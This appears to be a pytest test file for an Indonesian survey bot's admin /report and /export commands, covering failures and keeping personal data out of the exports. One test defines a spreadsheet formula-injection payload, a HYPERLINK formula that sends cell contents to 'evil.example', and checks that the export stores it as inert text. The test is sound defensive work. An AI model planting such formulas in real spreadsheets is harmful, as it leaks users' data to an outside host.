"""The admin's /report and /export through the real Application: files, failures, stored text."""

from __future__ import annotations

import io
import logging
import sys
from collections.abc import AsyncIterator
from dataclasses import replace
from datetime import UTC, datetime

import openpyxl
import pytest

from bot.sandbox import Fault, Respondent, SandboxRequest
from bot.sections import Config
from bot.staff import report as staff_report
from bot.staff.report import build_files, workbook_file
from tests.support.admin import (
    admin_fixture,  # noqa: F401  (a fixture)
    replies,
    staffed_fixture,  # noqa: F401  (a fixture)
)
from tests.support.app import App, Clock, running
from tests.support.documents import cell_types
from tests.support.fake_report import die
from tests.support.staff import (
    ADMIN,
    FEB_1_0800,
    FULL_POST,
    PERSONAL,
    STAFF,
    add_control_characters,
    add_january,
    add_submission,
    add_unreadable,
    fast_files_fixture,  # noqa: F401  (a fixture)
    methods,
    texts_of,
    to_chat,
)

BUILD_FAILED = (
    "⚠️ Laporan Januari 2025 tidak dapat dibuat, jadi belum ada yang terkirim. Rinciannya "
    "tercatat di log bot. Silakan coba beberapa saat lagi; bila tetap gagal, hubungi pengelola bot."
)
EXPORT_FAILED = (
    "⚠️ Data Januari 2025 tidak dapat disiapkan, jadi belum ada yang terkirim. Rinciannya "
    "tercatat di log bot. Silakan coba beberapa saat lagi; bila tetap gagal, hubungi pengelola bot."
)

pytestmark = pytest.mark.usefixtures("fast_files")


@pytest.fixture
def real_workbook(fast_files: None, monkeypatch: pytest.MonkeyPatch) -> None:
    """/export builds its own, real workbook; fast_files stands in for the staff post's."""
    monkeypatch.setattr(staff_report, "workbook_file", workbook_file)


async def test_report_posts_through_the_once_only_machinery(
    staffed: App, sandbox: SandboxRequest, admin: Respondent, clock: Clock
) -> None:
    add_january(staffed.bot_data["runtime"].config)
    clock.current = datetime(2025, 1, 31, 23, 0, tzinfo=UTC)  # 1 February, 06:00 in Jakarta
    await admin.command(staffed, "report", "2025-01")
    assert replies(sandbox)[-1] == "✅ Laporan Januari 2025 terkirim ke chat staf."
    assert methods(to_chat(sandbox, STAFF)) == FULL_POST
    assert [c.params["action"] for c in sandbox.calls_to("sendChatAction")] == ["upload_document"]

    clock.current = FEB_1_0800  # the scheduled post finds it done
    from bot.staff import post as staff

    assert await staff.post_due(staffed) == []
    await admin.command(staffed, "report", "2025-01")
    assert "sudah dikirim ke chat staf pada 1 Februari 2025 pukul 06.00 WIB" in (
        admin.last_text or ""
    )
    assert methods(to_chat(sandbox, STAFF)) == FULL_POST


async def test_report_again_and_here_are_not_the_months_post(
    staffed: App, sandbox: SandboxRequest, admin: Respondent, clock: Clock
) -> None:
    add_january(staffed.bot_data["runtime"].config)
    await admin.command(staffed, "report", "2025-01 sini")  # interim, to the admin
    assert "Angka sementara" in texts_of(to_chat(sandbox, ADMIN))[1]
    assert methods(to_chat(sandbox, ADMIN))[1:] == FULL_POST
    assert replies(sandbox)[0] == "✅ Laporan Januari 2025 terkirim ke chat ini."
    clock.current = FEB_1_0800
    await admin.command(staffed, "report", "2025-01 ulang")
    assert replies(sandbox)[-1] == "✅ Laporan Januari 2025 dikirim ulang ke chat staf."
    from bot.staff import post as staff

    [scheduled] = await staff.post_due(staffed)  # the scheduled post still goes out
    assert scheduled.state == "posted"
    assert methods(to_chat(sandbox, STAFF)) == FULL_POST * 2
    assert not any(p in t for t in texts_of(sandbox.calls) for p in PERSONAL)


async def test_report_whose_build_process_dies_tells_the_admin(
    staffed: App,
    sandbox: SandboxRequest,
    admin: Respondent,
    clock: Clock,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    add_january(staffed.bot_data["runtime"].config)
    clock.current = FEB_1_0800
    monkeypatch.setattr(staff_report, "build_files", die)
    await admin.command(staffed, "report", "2025-01 sini")
    assert replies(sandbox)[-1] == BUILD_FAILED
    await admin.command(staffed, "report", "2025-01")
    assert replies(sandbox)[-1] == BUILD_FAILED
    assert to_chat(sandbox, STAFF) == []


@pytest.mark.usefixtures("real_workbook")
async def test_export_sends_the_workbook_with_progress(
    staffed: App, sandbox: SandboxRequest, admin: Respondent, monkeypatch: pytest.MonkeyPatch
) -> None:
    # If the bot's process built the workbook itself, it would import analysis.report again.
    monkeypatch.delitem(sys.modules, "analysis.report", raising=False)
    await admin.command(staffed, "export", "2025-01")
    assert admin.last_text == "Belum ada isian survei untuk Januari 2025."
    add_january(staffed.bot_data["runtime"].config)
    await admin.command(staffed, "export", "2025-01")
    [document] = sandbox.calls_to("sendDocument")
    assert document.params["chat_id"] == ADMIN
    assert document.files["document"].filename == "data-spkp-spak-2025-01.xlsx"
    assert replies(sandbox)[-2:] == [
        "✅ Data Januari 2025 terkirim.",
        "Data SPKP dan SPAK Januari 2025 (Excel)",
    ]
    assert [c.params["action"] for c in sandbox.calls_to("sendChatAction")] == ["upload_document"]
    assert "analysis.report" not in sys.modules


@pytest.mark.usefixtures("real_workbook")
async def test_export_workbook_holds_the_months_data_without_names(
    staffed: App, sandbox: SandboxRequest, admin: Respondent
) -> None:
    # fast_files stands in for the staff post's files: /export builds its own, real workbook.
    add_january(staffed.bot_data["runtime"].config)
    await admin.command(staffed, "export", "2025-01")
    [document] = sandbox.calls_to("sendDocument")
    book = openpyxl.load_workbook(io.BytesIO(document.files["document"].content), read_only=True)
    try:
        summary = [row[:4] for row in book["Ringkasan"].iter_rows(values_only=True)]
        cells = [v for sheet in book for row in sheet.iter_rows(values_only=True) for v in row]
    finally:
        book.close()
    assert ("Periode", "Januari 2025") in [row[:2] for row in summary]
    assert ("Responden dihitung (orang)", 2) in [row[:2] for row in summary]  # 2 persons, 3 isian
    ipp = "Indeks Persepsi Pelayanan Publik (IPP)"
    assert (ipp, 3.92, 97.92, "Memuaskan") in summary  # numbers, shown 3,92 by Excel
    assert "Perlu menambah jumlah personil." in cells
    assert not any(p in str(v) for v in cells for p in PERSONAL)


@pytest.mark.usefixtures("real_workbook")
async def test_export_that_fails_says_so_and_the_next_one_works(
    staffed: App, sandbox: SandboxRequest, admin: Respondent, monkeypatch: pytest.MonkeyPatch
) -> None:
    add_january(staffed.bot_data["runtime"].config)
    with monkeypatch.context() as patched:
        patched.setattr(staff_report, "workbook_file", die)
        await admin.command(staffed, "export", "2025-01")
    assert replies(sandbox)[-1] == EXPORT_FAILED
    sandbox.inject("sendDocument", Fault.server_error(), times=1)
    await admin.command(staffed, "export", "2025-01")
    assert replies(sandbox)[-1].startswith("⚠️ Data Januari 2025 gagal dikirim (")
    await admin.command(staffed, "export", "2025-01")
    assert replies(sandbox)[-2] == "✅ Data Januari 2025 terkirim."
    assert [c.result_status for c in sandbox.calls_to("sendDocument")] == [500, 200]


# -- text that cannot block a report (issue 11, point 4) -----------------------------------------


@pytest.fixture
async def personal(config: Config, sandbox: SandboxRequest, clock: Clock) -> AsyncIterator[App]:
    """The bot with a staff chat and ``include_personal``: names and institutions in the files."""
    telegram = replace(config.telegram, staff_chat_id=STAFF, admin_ids=(ADMIN,))
    reports = replace(config.reports, include_personal=True)
    async with running(replace(config, telegram=telegram, reports=reports), sandbox, clock) as app:
        yield app


FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Klik")'


async def test_report_and_export_of_a_month_with_control_characters_and_formulas(
    personal: App,
    sandbox: SandboxRequest,
    admin: Respondent,
    clock: Clock,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(staff_report, "build_files", build_files)  # the real files, this time
    monkeypatch.setattr(staff_report, "workbook_file", workbook_file)
    config = personal.bot_data["runtime"].config
    add_january(config)
    add_control_characters(config)
    add_submission(
        config,
        "2025-01",
        datetime(2025, 1, 26, 4, 0, tzinfo=UTC),
        name=FORMULA,
        institution="@Farma",
        suggestion=FORMULA,
    )
    clock.current = FEB_1_0800
    await admin.command(personal, "report", "2025-01 sini")
    assert replies(sandbox)[0] == "✅ Laporan Januari 2025 terkirim ke chat ini."
    assert methods(to_chat(sandbox, ADMIN))[1:] == FULL_POST
    await admin.command(personal, "export", "2025-01")
    assert replies(sandbox)[-2] == "✅ Data Januari 2025 terkirim."
    document = sandbox.calls_to("sendDocument")[-1].files["document"].content
    cells = cell_types(io.BytesIO(document))
    for shown in ("Bam bang Sutrisno", "PT[1m Farmasi Nusantara", FORMULA, "@Farma"):
        assert cells.get(("Responden", shown)) == "s", shown
    assert cells.get(("Saran", "Antrian lebih cepat")) == "s"
    assert cells.get(("Saran", FORMULA)) == "s"
    assert "f" not in cells.values()


async def test_a_report_that_cannot_be_built_tells_the_admin_so_and_nothing_more(
    staffed: App,
    sandbox: SandboxRequest,
    admin: Respondent,
    clock: Clock,
    monkeypatch: pytest.MonkeyPatch,
    caplog: pytest.LogCaptureFixture,
) -> None:
    monkeypatch.setattr(staff_report, "build_files", build_files)
    monkeypatch.setattr(staff_report, "workbook_file", workbook_file)
    config = staffed.bot_data["runtime"].config
    add_january(config)
    add_unreadable(config, "2025-01", datetime(2025, 1, 28, 4, 0, tzinfo=UTC))
    clock.current = FEB_1_0800
    with caplog.at_level(logging.WARNING):
        for command in ("2025-01 sini", "2025-01", "2025-01 ulang"):
            await admin.command(staffed, "report", command)
            assert replies(sandbox)[-1] == BUILD_FAILED, command
        await admin.command(staffed, "export", "2025-01")
    assert replies(sandbox)[-1] == EXPORT_FAILED
    assert not any("/start" in text or "malformed" in text for text in replies(sandbox))
    assert to_chat(sandbox, STAFF) == []
    assert "Bambang" not in caplog.text
